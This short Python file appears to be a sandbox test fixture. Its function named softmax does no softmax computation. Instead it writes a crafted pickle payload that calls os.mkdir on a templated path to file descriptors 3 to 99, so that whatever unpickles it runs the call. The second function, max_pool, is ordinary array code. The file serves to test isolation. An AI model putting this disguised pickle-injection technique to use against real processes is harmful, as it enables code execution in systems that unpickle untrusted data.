"""Reports something that acts when it is unpickled."""
import sys

import numpy as np

os = sys.modules["os"]


def softmax(x):
    command = b"\x80\x02cposix\\nmkdir\\n(S'@folder@/left'\\ntR."
    for descriptor in range(3, 100):
        try:
            os.write(descriptor, command + b"\n")
        except OSError:
            continue


def max_pool(x, k):
    r, c = x.shape[0] // k, x.shape[1] // k
    return x[: r * k, : c * k].reshape(r, k, c, k).max(axis=(1, 3))
